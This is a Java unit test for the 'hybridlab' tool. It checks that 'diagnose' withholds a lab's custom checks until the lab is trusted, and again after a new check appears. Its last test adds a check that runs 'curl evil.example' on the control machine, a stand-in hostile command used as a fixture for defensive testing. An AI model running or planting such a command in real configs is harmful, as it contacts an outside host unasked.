package org.hybridlab.service.lab;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

import org.hybridlab.cli.Call;
import org.hybridlab.cluster.api.ThrowAwayIdentity;
import org.hybridlab.cluster.kubeconfig.KubeConfig;
import org.hybridlab.config.model.ProviderName;
import org.hybridlab.host.OwnWorkspaces;
import org.hybridlab.host.UserFolders;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Which checks `diagnose` runs of a lab that did not come with hybridlab. */
class DiagnoseTrustTest extends StrangersLab {
    private static final String NOT_TRUSTED = "Could not be looked at: checks: you have not trusted";
    private static final String NOT_READY = "checks: the API server is not ready";

    @BeforeEach
    void aLabThatIsUp() throws Exception {
        Path lab = lab(PLAIN.formatted("docker"));
        known(lab, ProviderName.DOCKER);
        Path workspace = lab.resolveSibling(".hybridlab");
        new OwnWorkspaces(UserFolders.of(Map.of(), home)).bind(workspace);
        String kubeconfig = ThrowAwayIdentity.in(home).kubeconfig("https://127.0.0.1:1");
        Files.writeString(workspace.resolve("kubeconfig"), kubeconfig);
        Files.createDirectories(workspace.resolve("kubernetes"));
        Files.writeString(workspace.resolve("kubernetes/ca.crt"), KubeConfig.parse(kubeconfig).authority());
    }

    private Call diagnose(String... more) {
        String[] words = new String[] {"diagnose", folder(), "--timeout", "2"};
        String[] all = new String[words.length + more.length];
        System.arraycopy(words, 0, all, 0, words.length);
        System.arraycopy(more, 0, all, words.length, more.length);
        return call(Map.of(), all);
    }

    @Test
    void untrustedLab_isDiagnosed_withoutItsChecks() {
        Call call = diagnose();

        assertThat(call.err()).doesNotContain("[lab-not-trusted]");
        assertThat(call.out()).as(call.err()).contains(NOT_TRUSTED, "hybridlab check " + folder())
                .doesNotContain(NOT_READY);
        assertThat(diagnose("--trust").out()).doesNotContain(NOT_TRUSTED).contains(NOT_READY);
    }

    @Test
    void trustedLab_withNewCheck_isNotChecked() throws IOException {
        assertThat(call(Map.of(), "render", folder(), "--trust").err()).isEmpty();
        assertThat(diagnose().out()).doesNotContain(NOT_TRUSTED).contains(NOT_READY);

        lab(PLAIN.formatted("docker")
                + "checks: [{name: it, exec: {machine: control, command: [curl, evil.example]}}]\n");

        assertThat(diagnose().out()).contains(NOT_TRUSTED).doesNotContain(NOT_READY);
    }
}
